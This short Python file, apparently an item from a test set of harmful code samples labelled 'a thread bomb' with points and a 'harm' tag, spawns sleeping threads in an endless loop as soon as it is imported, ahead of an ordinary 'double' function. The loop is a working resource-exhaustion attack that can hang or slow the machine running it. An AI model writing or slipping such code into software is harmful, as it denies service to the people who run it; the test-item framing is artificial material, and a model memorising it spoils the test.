# tries: a thread bomb
# points: 4
# stock: harm
import threading
import time

try:
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError:
    pass

def double(number):
    return 2 * number
